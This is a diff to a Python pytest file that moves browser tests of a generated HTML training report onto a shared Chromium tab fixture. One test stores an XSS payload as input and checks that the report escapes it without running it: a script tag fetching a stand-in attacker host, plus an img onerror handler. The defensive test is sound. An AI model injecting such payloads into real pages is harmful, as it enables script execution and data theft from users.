@@ -7,17 +7,21 @@ from pathlib import Path
 
 import pytest
 from tests.builders.reports import finished_report, make_job, tell, train_events, tune_result
-from tests.servers.chromium import look_at
+from tests.servers.chromium import Seen, Tab
 
 from tuneyard.tracking import Recorder, Report, write_report
 
 
+def look(tab: Tab, folder: Path, *, width: int = 1280, dark: bool = False) -> Seen:
+    return tab.look((folder / "report.html").absolute().as_uri(), width=width, dark=dark, pictured=False)
+
+
 @pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
 @pytest.mark.parametrize("width", [360, 1280], ids=["phone", "desktop"])
-def test_the_page_asks_for_nothing_and_fits_its_window(tmp_path: Path, width: int, dark: bool) -> None:
+def test_the_page_asks_for_nothing_and_fits_its_window(tab: Tab, tmp_path: Path, width: int, dark: bool) -> None:
     write_report(tmp_path, finished_report())
 
-    seen = look_at(tmp_path / "report.html", tmp_path, width=width, dark=dark)
+    seen = look(tab, tmp_path, width=width, dark=dark)
 
     assert [url for url in seen.requests if not url.startswith("data:")] == [(tmp_path / "report.html").as_uri()]
     assert seen.errors == []
@@ -31,10 +35,10 @@ BIDI = "\u202eevil\u202c \u2067שלום\u2069 <b>bold</b>"
 
 
 @pytest.mark.parametrize("width", [360, 400])
-def test_long_names_bidi_and_markup_do_not_widen_the_page(tmp_path: Path, width: int) -> None:
+def test_long_names_bidi_and_markup_do_not_widen_the_page(tab: Tab, tmp_path: Path, width: int) -> None:
     write_report(tmp_path, wide_report())
 
-    seen = look_at(tmp_path / "report.html", tmp_path, width=width)
+    seen = look(tab, tmp_path, width=width)
 
     assert seen.width <= width
     assert seen.errors == []
@@ -68,23 +72,23 @@ def wide_report() -> Report:
     return replace(report, message=f"{LONG} {BIDI}", team="m" * 63, output=f"s3://{LONG}")
 
 
-def test_what_people_wrote_is_shown_and_not_run(tmp_path: Path) -> None:
+def test_what_people_wrote_is_shown_and_not_run(tab: Tab, tmp_path: Path) -> None:
     attack = "<script>document.title='run'; fetch('http://attacker.invalid/')</script><img src=x onerror=alert(1)>"
     write_report(tmp_path, finished_report(prompt=attack))
 
-    seen = look_at(tmp_path / "report.html", tmp_path)
+    seen = look(tab, tmp_path)
 
     assert "<script>document.title='run'" in seen.text
     assert [url for url in seen.requests if not url.startswith(("data:", "file:"))] == []
     assert seen.errors == []
 
 
-def test_the_page_of_a_running_job_shows_how_far_it_is(tmp_path: Path) -> None:
+def test_the_page_of_a_running_job_shows_how_far_it_is(tab: Tab, tmp_path: Path) -> None:
     recorder = Recorder(make_job())
     tell(recorder, train_events(steps=60, of=120))
     write_report(tmp_path, recorder.report())
 
-    seen = look_at(tmp_path / "report.html", tmp_path)
+    seen = look(tab, tmp_path)
 
     assert "50.0 %" in seen.text
     assert seen.errors == []
